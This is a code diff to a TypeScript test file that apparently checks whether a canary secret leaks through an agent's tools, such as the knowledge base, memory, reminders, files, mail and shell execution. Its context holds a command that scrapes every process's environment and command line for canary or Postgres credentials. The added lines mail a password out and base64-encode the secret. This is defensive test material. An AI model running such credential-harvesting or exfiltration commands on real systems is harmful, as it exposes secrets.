@@ -20,6 +20,9 @@ const mail = (text: string) => ({
   args: { to: ["b@example.com"], subject: "hello", text },
 });
 
+/** The id of nothing. */
+const nobody = "00000000-0000-4000-8000-000000000000";
+
 /** What is fished for: environments and command lines of all processes, and the files of the worker's folder. */
 const fishing = [
   "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a -i 'c4nary\\|postgres:' | sort -u | head -c 4000",
@@ -50,6 +53,12 @@ const scenarios: Readonly<Record<string, readonly ((stage: Stage) => Line)[]>> =
       use: [
         { tool: "human.ask", args: { question: `is it ${own}?`, options: [own, "no"], context: everyForm } },
         { tool: "kb.append", args: { page: `about ${own}`, text: everyForm } },
+        { tool: "kb.edit", args: { page: `about ${own}`, okf: `- ${everyForm}` } },
+        { tool: "kb.search", args: { q: own } },
+        { tool: "memory.propose", args: { kind: "fact", text: everyForm } },
+        { tool: "ingest.capture", args: { url: "https://example.com/", title: own, markdown: everyForm } },
+        { tool: "reminders.add", args: { text: everyForm, at: "2040-01-01T00:00:00Z" } },
+        { tool: "files.attach", args: { name: own, text: everyForm } },
         mail(`the password is ${everyForm}`),
         { tool: "os.exec", args: { command: `echo '${Buffer.from(own).toString("base64")}'` } },
       ],
@@ -73,8 +82,18 @@ const scenarios: Readonly<Record<string, readonly ((stage: Stage) => Line)[]>> =
         { tool: "kb.read", args: { page: "a page" } },
         { tool: "tasks.create", args: { title: "a task" } },
         { tool: "tasks.list", args: {} },
-        { tool: "tasks.done", args: { id: "00000000-0000-4000-8000-000000000000" } },
+        { tool: "tasks.done", args: { id: nobody } },
         { tool: "tasks.doneLog", args: {} },
+        { tool: "kb.node.read", args: { node: nobody } },
+        { tool: "kb.node.edit", args: { node: nobody, okf: "- x" } },
+        { tool: "kb.remove", args: { node: nobody } },
+        { tool: "kb.expand", args: {} },
+        { tool: "kb.corpus", args: {} },
+        { tool: "files.list", args: {} },
+        { tool: "memory.consolidate", args: {} },
+        { tool: "reminders.list", args: {} },
+        { tool: "reminders.cancel", args: { id: nobody } },
+        { tool: "ops.heartbeat", args: {} },
       ],
     }),
   ],
